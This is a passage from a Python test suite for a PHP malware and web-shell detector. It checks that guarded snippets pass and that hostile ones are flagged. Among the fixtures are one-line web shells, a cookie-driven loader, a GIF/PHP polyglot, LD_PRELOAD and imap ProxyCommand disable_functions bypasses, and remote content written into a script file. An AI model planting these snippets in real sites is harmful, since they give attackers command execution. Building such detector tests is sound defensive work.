        "<?php if (isset($_FILES['f'])) { $p = $_FILES['f']['tmp_name']; $_SESSION['x'] = file_get_contents($p); }"
        " elseif (isset($_SESSION['x'])) { $p = sys_get_temp_dir() . '/import_' . rand();"
        " file_put_contents($p, $_SESSION['x']); }",
    ),
    (
        "handler method an allow-list of the object's own methods picks",
        "<?php $h = new Handler(); $m = strtolower($_REQUEST['op']);"
        " if ($m && method_exists($h, $m)) { $h->$m(); } else { $h->index($m); }",
    ),
    (
        "named daemon restarting itself with its argv and environment",
        "<?php class P { static function env($k = null) { if ($k !== null) { return getenv($k); }"
        " $e = $_SERVER; unset($e['argv']); return $e; }"
        " static function restart() { cli_set_process_title('worker'); $bin = static::env('_');"
        " $a = $_SERVER['argv']; array_shift($a); pcntl_exec($bin, $a, static::env()); } }",
    ),
    (
        "command-line tool writing to STDERR",
        "<?php $d = $_SERVER['argv'][1]; if (!is_dir($d)) { fwrite(STDERR, \"no such directory\\n\"); }"
        " system('tar czf backup.tgz ' . $d);",
    ),
    (
        "contact form mailing the site's own address",
        "<?php mail('info@example.invalid', $_POST['subject'], $_POST['message'], 'Reply-To: ' . $_POST['email']);",
    ),
    (
        "page sent to a friend with the site's own text",
        "<?php mail($_POST['friend'], 'A page for you', 'Have a look at ' . $url, 'From: site@example.invalid');",
    ),
    ("language file chosen by the request", "<?php include 'lang/' . basename($_GET['l']) . '.php';"),
    (
        "settings written from the request, then a constant file included",
        "<?php file_put_contents('cache/settings.json', json_encode($_POST)); include 'cache/header.php';",
    ),
    (
        "template variables extracted without overwriting the compiled path",
        "<?php $c = 'cache/home.php'; extract(array('q' => $_GET['q']), EXTR_SKIP); include $c;",
    ),
    ("image metadata printed", "<?php $e = exif_read_data('a.jpg'); echo htmlspecialchars($e['Model']);"),
    (
        "filter_var with a constant callback",
        "<?php $v = filter_var($_GET['n'], FILTER_CALLBACK, array('options' => 'trim'));",
    ),
    (
        "decoded data printed, not evaluated",
        "<?php $row = $db->fetch('x'); $t = base64_decode($row); echo htmlspecialchars($t);",
    ),
    (
        "foreach building a label from constant parts",
        "<?php $t = ''; foreach (array(72, 105) as $c) { $t .= chr($c); } echo $t . htmlspecialchars($_GET['n']);",
    ),
    (
        "goto retrying a read of the application's own file",
        "<?php $n = 0; retry: $d = @file_get_contents('cache/data.json');"
        " if ($d === false && ++$n < 3) { goto retry; } echo htmlspecialchars($_GET['q']);",
    ),
    (
        "ArrayObject of request rows sorted with a fixed comparator",
        "<?php $a = new ArrayObject($_POST['rows']); $a->uasort('strnatcmp'); echo count($a);",
    ),
    (
        "update check through a download helper",
        "<?php function get($u) { return file_get_contents($u); }"
        " $v = json_decode(get('https://updates.example.org/v.json'), true); echo htmlspecialchars($v['version']);",
    ),
    (
        "colour channels read from hex pairs",
        "<?php $c = 'ff8800'; $rgb = ''; for ($i = 0; $i < 6; $i += 2) { $rgb .= chr(hexdec($c[$i] . $c[$i + 1])); }"
        " echo strlen($rgb) . htmlspecialchars($_GET['n']);",
    ),
    (
        "a label shifted in place for display",
        "<?php $s = 'Ifmmp'; for ($i = 0; $i < strlen($s); $i++) { $s[$i] = chr(ord($s[$i]) - 1); }"
        " echo $s . htmlspecialchars($_GET['n']);",
    ),
    (
        "an action handler picked by a prefix and the request's action name",
        "<?php function action_list() { echo 'list'; } $h = 'action_' . $_GET['do'];"
        " if (function_exists($h)) { $h(); }",
    ),
    (
        "a label built by a loop appending the long way",
        "<?php $s = 'Ifmmp'; $o = ''; for ($i = 0; $i < strlen($s); $i++) { $o = $o . chr(ord($s[$i]) - 1); }"
        " echo $o . htmlspecialchars($_GET['n']);",
    ),
    (
        "a cached list unserialized from the application's own file",
        "<?php $v = file_get_contents('cache/list.txt'); $l = unserialize($v); echo count($l) . htmlspecialchars($_GET['n']);",
    ),
    (
        "a table of formatter names normalised by a loop and applied to input",
        "<?php $f = array('TRIM', 'STRTOUPPER'); for ($i = 0; $i < count($f); $i++) { $f[$i] = strtolower($f[$i]); }"
        " echo htmlspecialchars($f[0]($_POST['name']));",
    ),
    (
        "a header reduced to letters, digits and dashes in the branch that read it names a log file",
        "<?php $b = file_get_contents('php://input'); if (isset($_SERVER['HTTP_X_ENC'])) {"
        " $e = $_SERVER['HTTP_X_ENC']; $e = preg_replace('{[^a-z0-9-]}i', '', $e);"
        " $f = fopen('/var/log/app/body.' . $e, 'w'); fwrite($f, $b); }",
    ),
    (
        "a path built from a parameter earlier, run only when the parameter equals a literal",
        "<?php $show = empty($_GET['show']) ? 'capture' : $_GET['show']; $path = '/var/cache/ev/' . $show . '.jpg';"
        " if ($show == 'capture' && !file_exists($path)) { exec('ffmpeg -i in.mp4 -frames:v 1 ' . $path); }",
    ),
    (
        "a record looked up by named conditions and its fields put in a command",
        "<?php $frame = Store\\Frame::find_one(array('EventId' => $_GET['eid'], 'Type' => 'Alarm'));"
        " exec('ffmpeg -ss ' . $frame->Delta() . ' -i ' . $frame->Path() . ' -frames:v 1 out.jpg');",
    ),
    (
        "a name cleaned in the branch that read it is the one passed to the command",
        "<?php if (isset($_GET['iface'])) { $i = $_GET['iface']; $i = preg_replace('/[^a-z0-9]/', '', $i);"
        " echo shell_exec('ip link show ' . $i); }",
    ),
    (
        "XML handlers collecting the request body's titles, printed escaped",
        "<?php class R { public $t = array(); function o($p, $n, $a) { } function c($p, $n) { }"
        " function d($p, $s) { $this->t[] = trim($s); } } $r = new R(); $x = xml_parser_create();"
        " xml_set_object($x, $r); xml_set_element_handler($x, 'o', 'c'); xml_set_character_data_handler($x, 'd');"
        " xml_parse($x, file_get_contents('php://input')); foreach ($r->t as $s) { echo htmlspecialchars($s); }",
    ),
    (
        "a first-class callable of a formatter applied to input",
        "<?php $f = strtoupper(...); echo htmlspecialchars($f($_GET['c']));",
    ),
    (
        "an SPL queue of request values printed escaped",
        "<?php $q = new SplQueue(); $q->enqueue($_GET['n']); echo htmlspecialchars($q->dequeue());",
    ),
    (
        "a settings object whose __get looks the requested key up",
        "<?php class C { private $d = []; function __get($n) { return $this->d[$n] ?? ''; } } $c = new C;"
        " echo htmlspecialchars($c->{$_GET['k']});",
    ),
    (
        "the session id naming the session's own data file",
        "<?php session_start(); $f = 'carts/' . session_id() . '.json'; file_put_contents($f, json_encode($_POST));"
        " echo htmlspecialchars(session_id());",
    ),
    (
        "a port number printed into a configuration script with %d",
        "<?php $h = fopen(__DIR__ . '/config.php', 'w'); fprintf($h, \"<?php\\n\\$port = %d;\\n\", $_POST['port']);",
    ),
    (
        "a count formatted with %d into a command line",
        "<?php system(sprintf('ping -c %d 127.0.0.1', $_GET['n']));",
    ),
    (
        "an autoloader including the file of a class the request names (class names hold no dots or slashes)",
        "<?php spl_autoload_register(function ($n) { include __DIR__ . '/classes/' . $n . '.php'; });"
        " $c = $_GET['module']; $o = new $c(); echo htmlspecialchars(get_class($o));",
    ),
    (
        "an autoloader generating, loading and initialising the class a request names",
        "<?php spl_autoload_register(function ($c) { if (strpos($c, 'Mock_') === 0) { eval(\"class $c {}\"); }"
        " require __DIR__ . '/lib/' . $c . '.php'; call_user_func([$c, 'init']); $c::boot(); });"
        " $t = $_GET['type']; $o = new $t();",
    ),
    (
        "an exception message with the request's value, printed escaped and logged",
        "<?php try { $n = (int) $_GET['n']; if ($n < 0) { throw new InvalidArgumentException('bad ' . $_GET['n']); } }"
        " catch (Exception $e) { echo htmlspecialchars($e->getMessage()); error_log($e->getMessage()); }",
    ),
    (
        "a closure counting into a variable held by reference; an array cast to an object, its request value escaped",
        "<?php $n = 0; $inc = function () use (&$n) { $n++; }; $inc(); $o = (object) ['t' => 'x', 'l' => $_GET['l']];"
        " echo htmlspecialchars($o->l); system('logger ' . (int) $n . ' ' . $o->t);",
    ),
    (
        "a hex token naming a cached file, and an allow-listed value decoded",
        "<?php $t = $_GET['t']; if (ctype_xdigit($t)) { include 'views/' . $t . '.php'; }"
        " $m = $_GET['m']; if (in_array($m, ['bGlzdA==', 'dmlldw=='], true)) { eval('$v = ' . var_export(base64_decode($m), true) . ';'); }",
    ),
    (
        "an SMTP session whose replies are logged and printed escaped",
        "<?php $m = fsockopen('mail.example.org', 25); fwrite($m, 'MAIL FROM:<' . $_POST['f'] . \">\\r\\n\");"
        " $r = fgets($m, 515); file_put_contents('logs/smtp.log', $r, FILE_APPEND); echo htmlspecialchars($r);",
    ),
    (
        "a message written to sendmail's standard input",
        "<?php $p = proc_open('/usr/sbin/sendmail -t', [['pipe', 'r']], $io); fwrite($io[0], $_POST['body']);",
    ),
    (
        "a socket reply checked by a command-line worker",
        "<?php if (PHP_SAPI !== 'cli') { exit; } $c = fsockopen('127.0.0.1', 6379); system(fgets($c));",
    ),
    (
        "a command-function name given as an XML handler: it gets the parser first",
        "<?php $x = xml_parser_create(); xml_set_default_handler($x, 'system'); xml_parse($x, $_POST['d']);",
    ),
    (
        "a reference to a setting written with input that is only printed; a fixed command",
        "<?php $s = ['t' => '']; $r = &$s['t']; $r = $_POST['t']; echo htmlspecialchars($s['t']); system('uptime');",
    ),
    (
        "a by-reference parameter made safe before a command uses it",
        "<?php function q(&$v) { $v = escapeshellarg($v); } $f = $_GET['f']; q($f); system('ls ' . $f);",
    ),
    (
        "a static counter beside a fixed command",
        "<?php function n() { static $c = 0; return ++$c; } n(); system('date'); echo n();",
    ),
    (
        "an enum case's name and value printed, a fixed command",
        "<?php enum S: string { case On = 'on'; } echo S::On->name . S::On->value . $_GET['x']; system('date');",
    ),
    (
        "a SOAP service whose methods cast their argument to a number",
        "<?php class P { function get($id) { return file_get_contents('/srv/p/' . (int) $id . '.txt'); } }"
        " $s = new SoapServer(null, []); $s->setClass('P'); $s->handle();",
    ),
    (
        "a fixed text written to a temporary file and included; a page buffered and cached",
        "<?php $h = tmpfile(); fwrite($h, '<?php return 1;'); $m = stream_get_meta_data($h); include $m['uri'];"
        " ob_start(); echo htmlspecialchars($_GET['q']); file_put_contents('c/p.html', ob_get_clean());",
    ),
    (
        "array_reduce summing request numbers",
        "<?php echo array_reduce($_POST['n'], function ($c, $x) { return $c + (int) $x; }, 0);",
    ),
    (
        "a formatting function chosen by a flag, a command function chosen for a fixed command",
        "<?php $f = $_GET['up'] ? 'strtoupper' : 'strtolower'; echo htmlspecialchars($f($_GET['s']));"
        " $run = function_exists('exec') ? 'exec' : 'shell_exec'; $run('uptime');",
    ),
    (
        "an object cast to an array whose input is only printed; a copy of $GLOBALS counted",
        "<?php $o = new stdClass; $o->t = $_POST['t']; $a = (array) $o; echo htmlspecialchars($a['t']);"
        " $g = $GLOBALS; echo count($g); system('date');",
    ),
    (
        "a table of formatters picked by the request",
        "<?php $fmt = ['upper' => 'strtoupper', 'lower' => 'strtolower']; echo htmlspecialchars($fmt[$_GET['f']]($_GET['s']));",
    ),
    (
        'a counter file named in ${"GLOBALS"}, written with a number',
        '<?php ${"GLOBALS"}["f"] = "hits.txt"; $n = (int) @file_get_contents(${"GLOBALS"}["f"]); '
        'file_put_contents(${"GLOBALS"}["f"], $n + 1);',
    ),
]


BENIGN += [
    (
        "an image served from disk with its size in a header",
        "<?php $f = __DIR__ . '/img/logo.png'; $d = file_get_contents($f);"
        " header('Content-Type: image/png'); header('Content-Length: ' . strlen($d)); echo $d;",
    ),
    (
        "a thumbnail cache named by the image's hash",
        "<?php $d = file_get_contents('media/photo.jpg'); $t = 'cache/' . md5($d) . '.jpg';"
        " if (!is_file($t)) { file_put_contents($t, $d); } unlink('cache/' . sha1($d) . '.tmp');",
    ),
    (
        "an image inlined as a data URI",
        "<?php $b = base64_encode(file_get_contents('icons/star.gif'));"
        " echo '<img src=\"data:image/gif;base64,' . $b . '\">';",
    ),
    (
        "a settings text in JSON naming a formatting function applied to a constant",
        "<?php $c = json_decode('{\"case\":\"strtoupper\"}'); echo ($c->case)('title');",
    ),
    (
        "a request-chosen file name replaced by a fixed one in the branch that writes",
        "<?php $f = $_GET['f']; if (!preg_match('/^[a-z]+$/', $f)) { $f = 'default.txt';"
        " file_put_contents(__DIR__ . '/' . $f, 'reset'); }",
    ),
    (
        "a fixed script path replaced by a data file before the request's text is written",
        "<?php $p = 'cache.php'; if (!empty($_POST['t'])) { $p = 'notes.txt'; file_put_contents($p, $_POST['t']); }",
    ),
    (
        "a serialized list of labels printed escaped",
        '<?php $l = unserialize(\'a:2:{i:0;s:3:"one";i:1;s:3:"two";}\');'
        " echo htmlspecialchars($l[$_GET['i']] ?? '');",
    ),
    (
        "an enum of case formatters picked by the request",
        "<?php enum F: string { case U = 'strtoupper'; case L = 'strtolower'; }"
        " echo htmlspecialchars((F::from($_GET['f'])->value)($_GET['t']));",
    ),
    (
        "preferences unserialized with classes refused, a formatter's fixed callable",
        "<?php class F { public $cb = 'htmlspecialchars'; function show($t) { return call_user_func($this->cb, $t); } }"
        " $p = unserialize($_COOKIE['p'], ['allowed_classes' => false]); echo (new F)->show((string) ($p['t'] ?? ''));",
    ),
]


@pytest.mark.parametrize(("name", "code"), BENIGN, ids=[b[0] for b in BENIGN])
def test_guarded_input_is_not_reported(name: str, code: str) -> None:
    reasons = analyse(code)
    assert not reasons, [(r.id, r.description) for r in reasons]


def test_reason_names_source_path_and_sink_line() -> None:
    code = "<?php\n$in = $_POST['k'];\n$tmp = $in;\n$f = 'sys' . 'tem';\n\n$f($tmp);\n"
    reasons = {r.id: r for r in analyse(code)}
    flow = reasons[CMD]
    assert flow.line == 6
    assert "$_POST['k'] (line 2)" in flow.description
    assert "$in -> $tmp" in flow.description
    assert "system() (line 6)" in flow.description
    assert "built by concat" in flow.description
    assert reasons[HIDDEN].score < 60


def test_flow_through_helpers_reports_the_sink_line_and_the_path() -> None:
    code = "<?php\nfunction run($x) {\n  return shell_exec($x);\n}\nfunction mid($y) { return run($y); }\necho mid($_GET['c']);\n"
    (flow,) = analyse(code)
    assert flow.line == 3
    assert "mid() -> " in flow.description and "run() -> " in flow.description


def test_hidden_call_without_input_is_a_weak_signal() -> None:
    reasons = analyse("<?php $f = strrev('metsys'); $f('id');")
    assert ids(reasons) == {HIDDEN}
    assert all(r.score < 70 for r in reasons)


@pytest.mark.parametrize(
    "code",
    [
        "<?php $p = 'put' . 'env'; $p('LD_PRELOAD=' . $_POST['so']); mail('a@example.invalid', 'x', 'y');",
        "<?php $f = 'imap' . '_open'; @$f('{x -oProxyCommand=' . $_POST['c'] . '}a', '', '');",
        "<?php $d = strrev('ld'); $d($_GET['e']);",
    ],
)
def test_disable_functions_bypass_through_a_built_name_is_hidden(code: str) -> None:
    assert HIDDEN in ids(analyse(code))


def test_data_from_outside_the_file_decoded_into_eval() -> None:
    reasons = analyse(
        "<?php $row = $wpdb->get_var('SELECT v FROM t');\n$c = gzinflate(base64_decode($row));\neval($c);"
    )
    assert ids(reasons) == {DECODED}
    assert reasons[0].line == 3 and "base64_decode -> gzinflate" in reasons[0].description
    # a constant payload is the decode layer's to judge, request input the CODE rule's
    assert DECODED not in ids(analyse("<?php eval(base64_decode('ZWNobyAxOw=='));"))
    assert ids(analyse("<?php eval(base64_decode($_POST['c']));")) == {CODE}


def test_a_function_name_decoded_from_data_outside_the_code_is_called() -> None:
    # the name kept Base64-encoded in the class's own doc comment, read back through reflection
    code = (
        "<?php\n/** Y3JlYXRlX2Z1bmN0aW9u */\nclass W {}\n$r = new ReflectionClass('W');\n"
        "$make = base64_decode(trim($r->getDocComment(), '/* '));\n$f = $make('', $r->name);\n$f();"
    )
    reasons = analyse(code)
    assert ids(reasons) == {DECODED}
    assert reasons[0].line == 6 and "function name is decoded by base64_decode" in reasons[0].description
    # a name read as it is (a dispatcher's), or one only URL-decoded, is not hidden
    assert DECODED not in ids(analyse("<?php $h = get_option('handler');\n$h();"))
    assert DECODED not in ids(analyse("<?php $h = rawurldecode(get_option('handler'));\n$h();"))
    # a constant name decoded is folded and judged by what it names
    assert DECODED not in ids(analyse("<?php $h = base64_decode('dHJpbQ==');\necho $h(' x ');"))


def test_sink_in_eval_string_is_attributed_to_the_eval_line() -> None:
    code = "<?php\n$c = $_POST['x'];\n\neval('system($c);');\n"
    (flow,) = analyse(code)
    assert flow.line == 4
    assert "evaluated at runtime" in flow.description


def test_polyglot_image_is_analysed_as_php() -> None:
    data = b"GIF89a\x01\x00\x01\x00<?php $a = 'ass'.'ert'; $a($_POST['i']); ?>"
    ctx = FileContext(relpath="uploads/a.jpg", language=Language.OTHER, size=len(data))
    reasons = SemanticLayer()(Document(data), ctx, _no_rescan)
    assert CODE in ids(reasons)


def test_deep_nesting_and_long_chains_stay_bounded() -> None:
    deep = "<?php $x = " + "(" * 5000 + "$_GET['a']" + ")" * 5000 + "; system($x);"
    analyse(deep)  # no RecursionError; the result may be partial
    chain = "<?php $x = " + " . ".join(f"'{i}'" for i in range(20000)) + "; system($x);"
    assert analyse(chain) == []
    blocks = "<?php " + "if ($a) { " * 3000 + "system($_GET['c']);" + " }" * 3000
    analyse(blocks)


def test_visit_budget_keeps_partial_results() -> None:
    code = "<?php system($_GET['c']);\n" + "$a = 1;\n" * 5000
    small = SemanticLayer(max_visits=50)
    assert CMD in ids(analyse(code, layer=small))


def test_oversized_files_are_skipped() -> None:
    code = "<?php system($_GET['c']); /*" + "x" * 2000 + "*/"
    # over max_bytes, a PHP file is read as an excerpt: the code around its sinks, up to max_bytes
    assert ids(analyse(code, layer=SemanticLayer(max_bytes=1000))) == {CMD}
    many = "<?php " + "".join(f"system($_GET['c{i}']);" for i in range(100))
    assert analyse(many, layer=SemanticLayer(max_bytes=1000)) == []
    assert analyse(code, layer=SemanticLayer(max_nodes=3)) == []


def test_shared_analysis_is_reused_for_the_same_document() -> None:
    analyses = PhpAnalyses()
    data = b"<?php system($_GET['c']);"
    layer = SemanticLayer(analyses=analyses)
    ctx = FileContext(relpath="a.php", language=Language.PHP, size=len(data))
    doc = Document(data)
    layer(doc, ctx, _no_rescan)
    from webhunt.detect.semantic.transforms import Budget

    assert analyses.get(doc.data, Budget(), 10, 10) is not None  # cached: limits not re-applied


def test_an_upload_kept_under_the_clients_basename_is_a_weak_signal() -> None:
    # basename() strips directories but keeps the client's name and extension: application code
    # that trusts the browser's MIME type does this too, so alone it stays below medium
    code = "<?php move_uploaded_file($_FILES['f']['tmp_name'], 'up/' . basename($_FILES['f']['name']));"
    (reason,) = analyse(code)
    assert reason.id == "WH-S-PHP-009" and 15 <= reason.score < 40
    assert "client's own file name" in reason.description


def test_a_field_is_read_as_this_method_just_wrote_it() -> None:
    # img() names its file itself; only up() keeps the client's name (an upload, not a script write)
    code = (
        "<?php class U { function up($b) { if ($b) { $this->img($_POST['x']); return; }"
        " $this->full = 'up/' . $_FILES['f']['name']; move_uploaded_file($_FILES['f']['tmp_name'], $this->full); }"
        " private function img($d) { $data = base64_decode($d); $this->full = 'up/' . time() . '.png';"
        " file_put_contents($this->full, $data); } } (new U())->up($_GET['b']);"
    )
    assert ids(analyse(code)) == {UPLOAD}


@pytest.mark.parametrize(
    ("name", "args", "expected"),
    [
        ("pathinfo", [b"http://x.example/a/b/shell.php?x=1", 2], b"shell.php"),
        ("pathinfo", [b"/var/www/a/shell.php", 4], b"php"),
        ("pathinfo", [b"/var/www/a/shell.php", 8], b"shell"),
        ("pathinfo", [b"/var/www/a/shell.php", 1], b"/var/www/a"),
        ("basename", [b"/var/www/a/shell.php"], b"shell.php"),
        ("empty", [b""], 1),
        ("empty", [b"x"], 0),
    ],
)
def test_path_functions_fold_on_constants(name: str, args: list[bytes | int], expected: bytes | int) -> None:
    assert fold_call(name, args, Budget()) == expected


def test_code_without_an_opening_tag_is_analysed_as_php() -> None:
    # a payload kept for a loader that evals the file's content: PHP would print it, eval runs it
    reasons = analyse('$erz = $_COOKIE;\n$h = $erz["a"];\nif ($h) {\n  $g = $h($erz["b"]);\n}\n')
    assert "WH-S-PHP-003" in ids(reasons), reasons
    assert next(r for r in reasons if r.id == "WH-S-PHP-003").line == 4


def test_text_without_an_opening_tag_is_not_code() -> None:
    assert not analyse("Dear $name, if (you) read this, call system($number) now.\n")


def test_downloaded_content_is_not_called_request_input() -> None:
    (reason,) = analyse("<?php file_put_contents('x.php', file_get_contents('http://203.0.113.5/p.txt'));")
    assert reason.description.startswith("content downloaded by the server is written into a script file")
    (reason,) = analyse("<?php file_put_contents('x.php', $_POST['p']);")
    assert reason.description.startswith("request input is written into a script file")


def test_image_content_is_not_called_request_input() -> None:
    (reason,) = analyse("<?php eval(substr(file_get_contents('img/a.gif'), 100));")
    assert reason.description.startswith(
        "content read from a file named like an image reaches code evaluation"
    )
    assert "img/a.gif" in reason.description


@pytest.mark.parametrize(
    "text",
    [
        b'a:1:{i:0;O:1:"A":0:{}}',  # objects are not rebuilt
        b'a:2:{i:0;s:3:"abc";}',  # fewer items than announced
        b's:9:"short";',  # a length past the text
        b"a:99999:{}",
        b'a:1:{i:0;s:1:"x";}trailing',
    ],
)
def test_malformed_or_object_serialized_text_is_left_unknown(text: bytes) -> None:
    assert unserialize_literal(text) is None


def test_literal_data_is_read_as_php_reads_it() -> None:
    v = unserialize_literal(b'a:3:{i:0;s:2:"ab";s:1:"k";a:1:{i:5;b:1;}s:1:"n";N;}')
    assert v is not None and v.items is not None
    first, inner = v.item(0), v.item(b"k")
    assert first is not None and first.const == b"ab"
    assert inner is not None and (flag := inner.item(5)) is not None and flag.const == 1
    j = json_literal(b'{"7": "x", "a": [1, "b"]}')
    assert j is not None and j.item(7) is not None  # a decimal key is an integer key, as in PHP
    assert json_literal(b'"plain"') is None and json_literal(b"{bad") is None
    s = json_string_literal(b'"\\u0073ys\\u0074em"')  # a JSON string alone (json_decode's scalar)
    assert s is not None and s.const == b"system" and json_string_literal(b"[1]") is None


def _folds_to(setup: str, expr: str, expected: str) -> bool:
    """Does ``expr`` (after ``setup``) fold to the string ``expected``? A ternary on the folded
    comparison picks the callee, so only a fold to exactly that text calls ``system``."""
    code = f"<?php {setup} $f = (({expr}) === '{expected}') ? 'system' : 'strlen'; $f($_GET[0]);"
    return CMD in ids(analyse(code))


@pytest.mark.parametrize(
    ("setup", "expr", "expected"),
    [
        ("", "[] . ''", "Array"),  # an array as text, with a notice
        ("", "([] . '')[3]", "a"),
        ("", "[] . _", "Array_"),  # PHP < 8 reads an undefined constant as its name
        ("$a = []; ", '@"$a"', "Array"),
        ("", "(1) . ''", "1"),
        ("", ".1 . ''", "0.1"),
        ("", "-575. . ''", "-575"),  # a float with an integral value prints without a fraction
        ("", "(0.1 + 0.2) . ''", "0.3"),  # 14 significant digits (the precision ini setting)
        ("", "(9 ** 99) . ''", "2.9512665430653E+94"),  # ** past 64 bits gives a float
        ("", "(2 ** 62) . ''", "4611686018427387904"),
        ("", "(9223372036854775807 + 1) . ''", "9.2233720368548E+18"),  # integer overflow
        ("", "12345678901234567890 . ''", "1.2345678901235E+19"),  # a long literal is a float
        ("", "9 ** 9 ** 9 . ''", "INF"),
        ("", "-(9 ** 9 ** 9) . ''", "-INF"),
        ("", "1e1000 . ''", "INF"),
        ("", "(7 / 2) . (6 / 2)", "3.53"),
        ("", "(string) 1e14", "1.0E+14"),
        ("", "0.00001 . ''", "1.0E-5"),
        ("", "(9 ** 99 . '')[15]", "E"),
        ("", "str_repeat(substr(9 ** 9 ** 9 . '', 1, 1), 2)", "NN"),
        ("", "'_' ^ \"\\x0f\"", "P"),
        ("", '~"\\x9e\\x8c"', "as"),
        ("$k = 0x1; ", "chr(ord('s') ^ $k) . chr(ord('x') ^ $k)", "ry"),
        ("$c = 'a'; $c++; ", "$c", "b"),
        ("$c = 'z'; $c++; ", "$c", "aa"),
        ("$c = 'Az'; ++$c; ", "$c", "Ba"),
        ("$c = 'a9'; $c++; ", "$c", "b0"),
        ("$c = 'Zz'; $c++; ", "$c", "AAa"),
        ("$c = 'a'; $d = $c++; ", "$d . $c", "ab"),  # postfix: the old value
        ("$c = 'a'; $d = ++$c; ", "$d . $c", "bb"),  # prefix: the new value
        ("$c = 'a'; $c--; ", "$c", "a"),  # text does not step down
        ("$c = '9'; $c++; ", "$c . ''", "10"),  # a numeric string steps as a number
        # digits of other bases: bindec/octdec/hexdec skip what is not a digit; intval() reads as strtol
        ("", "chr(bindec('0111 0011')) . chr(octdec('171')) . chr(hexdec('-0x73'))", "sys"),
        ("", "chr(intval('0b1110011', 2)) . chr(intval('171', 8)) . chr(intval('0164', 0))", "syt"),
        ("", "chr(intval('2t', 36)) . intval('12abc', 16) . intval(' -0x1f', 16)", "e76476-31"),
        ("$n = ''; foreach (['0111 0011', '01111001'] as $b) { $n .= chr(bindec($b)); } ", "$n", "sy"),
        ("$n = ''; foreach (['1110011', '0b1111001'] as $b) { $n .= chr(intval($b, 2)); } ", "$n", "sy"),
        # a constant rewritten match by match by a callback of the file's own (a packer's decoder)
        (
            "",
            "preg_replace_callback('/[0-9a-f]{2}/', function ($m) { return chr(hexdec($m[0])); }, '73797374656d')",
            "system",
        ),
        (
            "function sh($m) { return chr(ord($m[0]) - 1); } ",
            "preg_replace_callback('/./s', 'sh', 'tztufn')",
            "system",
        ),
        ("", "preg_replace_callback('/\\d/', fn ($m) => $m[0] * 2, 'a1-b3-c1')", "a2-b6-c2"),
        # sorts in place: a packer's pieces kept out of order under keys that sort them back
        ("$m = [2 => 'c', 0 => 'a', 1 => 'b']; ksort($m); ", "implode('', $m)", "abc"),
        ("$m = ['k1' => 'c', 'k3' => 'a', 'k2' => 'b']; krsort($m); ", "join($m)", "abc"),
        ("$m = ['b', 'c', 'a']; sort($m); ", "implode('', $m) . implode('', array_keys($m))", "abc012"),
        ("$m = ['b', 'c', 'a']; rsort($m); ", "implode('', $m)", "cba"),
        ("$m = ['x' => 'b', 'y' => 'a']; asort($m); ", "implode('', array_keys($m))", "yx"),
        ("$m = ['x' => 'a', 'y' => 'b']; arsort($m); ", "implode('', array_keys($m))", "yx"),
        # openssl_decrypt() on constants: Base64 data by default, raw bytes with OPENSSL_RAW_DATA;
        # PHP pads a short key and IV with NULs
        ("", "openssl_decrypt('vRmj68gN8JbA6u0lc93QYg==', 'AES-128-ECB', '0123456789abcdef')", "system"),
        (
            "$d = hex2bin('af3e21d0189c2edf75681191c7ec7b3a'); ",
            "openssl_decrypt($d, 'aes-192-cbc', 'k', OPENSSL_RAW_DATA, 'iv')",
            "passthru",
        ),
        (
            "",
            "openssl_decrypt('dN9LnQ==', 'aes-256-ctr', str_repeat('K', 32), 0, str_repeat(chr(0), 16))",
            "exec",
        ),
    ],
)
def test_constant_folding_follows_php(setup: str, expr: str, expected: str) -> None:
    assert _folds_to(setup, expr, expected)
    assert not _folds_to(setup, expr, expected + "x")


@pytest.mark.parametrize(
    ("setup", "expr", "php8", "php7"),
    [
        # an integer key against a string, or numeric strings: PHP 7 and 8 order them differently
        ("$m = ['10' => 'a', 'x' => 'b', 9 => 'c']; ksort($m); ", "implode('', $m)", "cab", "bca"),
        ("$m = ['10', '9', 'x']; sort($m); ", "implode('', $m)", "910x", "x910"),
    ],
)
def test_uncertain_sort_orders_are_not_guessed(setup: str, expr: str, php8: str, php7: str) -> None:
    assert not _folds_to(setup, expr, php8)
    assert not _folds_to(setup, expr, php7)


@pytest.mark.parametrize(
    "expr",
    [
        # a callback that keeps state between matches, or sees variables of the file's
        "preg_replace_callback('/./', function ($m) { static $i = 0; return chr(ord($m[0]) - ++$i); }, 'tauxjs')",
        "preg_replace_callback('/./', function ($m) use ($k) { return chr(ord($m[0]) - 1); }, 'tztufn')",
        # a pattern that matches empty text, or one too complex to read as PCRE does
        "preg_replace_callback('/x*/', fn ($m) => 'system', '')",
        "preg_replace_callback('/(?<=a)./', fn ($m) => 'system', 'ab')",
    ],
)
def test_callback_rewrites_that_may_not_be_pure_are_not_folded(expr: str) -> None:
    # were the rewrite folded, its result would be the name of the function called
    assert CMD not in ids(analyse(f"<?php $k = 1; $f = {expr}; $f($_GET[0]);"))


@pytest.mark.parametrize(
    "args",
    [
        [b"vRmj68gN8JbA6u0lc93QYg==", b"AES-128-ECB", b"0123456789abcdeX"],  # wrong key: bad padding
        [b"vRmj68gN8JbA6u0lc93QYg==", b"bf-cbc", b"0123456789abcdef"],  # a cipher not handled
        [b"vRmj68gN8JbA6u0l", b"aes-128-ecb", b"0123456789abcdef"],  # not whole blocks
        [b"vRmj68gN8JbA6u0lc93QYg==", b"aes-128-ecb", b"0123456789abcdef", b"raw"],  # options not a number
    ],
)
def test_data_openssl_would_refuse_is_not_decrypted(args: list[bytes]) -> None:
    assert fold_call("openssl_decrypt", args, Budget()) is None


def test_aes_blocks_follow_the_standard() -> None:
    # FIPS-197 appendix C: the example vectors for the three key sizes
    plain = bytes.fromhex("00112233445566778899aabbccddeeff")
    for key_hex, cipher_hex, name in (
        ("000102030405060708090a0b0c0d0e0f", "69c4e0d86a7b0430d8cdb78070b4c55a", "aes-128-ecb"),
        (
            "000102030405060708090a0b0c0d0e0f1011121314151617",
            "dda97ca4864cdfe06eaf70a0ec0d7191",
            "aes-192-ecb",
        ),
        (
            "000102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1e1f",
            "8ea2b7ca516745bfeafc49904b496089",
            "aes-256-ecb",
        ),
    ):
        out = aes.decrypt(bytes.fromhex(cipher_hex), name, bytes.fromhex(key_hex), b"", padded=False)
        assert out == plain


def test_decryption_is_bounded_by_the_budget() -> None:
    big = base64.b64encode(bytes(16 * 1024)).decode("ascii").encode("ascii")
    budget = Budget(max_bytes=24 * 1024)  # room for one 16 KB decryption, not two
    assert fold_call("openssl_decrypt", [big, b"aes-128-ecb", b"k", 2], budget) is not None
    assert fold_call("openssl_decrypt", [big, b"aes-128-ecb", b"k", 2], budget) is None  # spent
    assert (
        fold_call("openssl_decrypt", [base64.b64encode(bytes(64 * 1024)), b"aes-128-ecb", b"k", 2], Budget())
        is None
    )


@pytest.mark.parametrize(
